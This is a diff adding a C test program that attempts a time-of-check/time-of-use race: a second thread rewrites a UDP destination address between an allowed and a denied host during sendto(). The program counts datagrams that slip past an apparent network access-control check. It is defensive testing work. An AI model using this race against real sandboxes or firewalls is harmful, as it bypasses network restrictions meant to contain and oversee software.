@@ -1,0 +1,62 @@
+/*
+ * Attack: a racing thread rewrites the sockaddr between ALLOWED and DENIED
+ * while the main thread calls sendto() on an unconnected UDP socket.
+ * Every datagram that reached the denied server is a bypass (the runner
+ * checks the server's record).
+ * usage: race_sendto PORT [UDPPORT]
+ */
+#include "common.h"
+
+static struct sockaddr_in target;
+static atomic_int stop;
+
+static void *
+racer(void *arg)
+{
+	volatile uint32_t *a = (volatile uint32_t *)&target.sin_addr.s_addr;
+	uint32_t good = inet_addr(ALLOWED), bad = inet_addr(DENIED);
+
+	(void)arg;
+	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
+		for (int i = 0; i < 64; i++) {
+			*a = good;
+			*a = bad;
+		}
+		*a = good;
+	}
+	return NULL;
+}
+
+int
+main(int argc, char **argv)
+{
+	int n, ok = 0, eacces = 0, other = 0, lasterr = 0, fd;
+	double end;
+	pthread_t t;
+
+	ports(argc, argv);
+	target = sin4(ALLOWED, udp_port);
+	fd = socket(AF_INET, SOCK_DGRAM, 0);
+	if (fd < 0) {
+		printf("race_sendto: socket: %s\n", ename(errno));
+		return 1;
+	}
+	pthread_create(&t, NULL, racer, NULL);
+	end = now_s() + 3.0;
+	for (n = 0; n < 5000 && now_s() < end; n++) {
+		if (sendto(fd, "race-sendto", 11, 0, (struct sockaddr *)&target,
+		    sizeof(target)) == 11)
+			ok++;
+		else if (errno == EACCES)
+			eacces++;
+		else {
+			other++;
+			lasterr = errno;
+		}
+	}
+	atomic_store(&stop, 1);
+	pthread_join(t, NULL);
+	printf("race_sendto: iterations=%d sent=%d eacces=%d other=%d last_other=%s\n",
+	    n, ok, eacces, other, ename(lasterr));
+	return 0;
+}
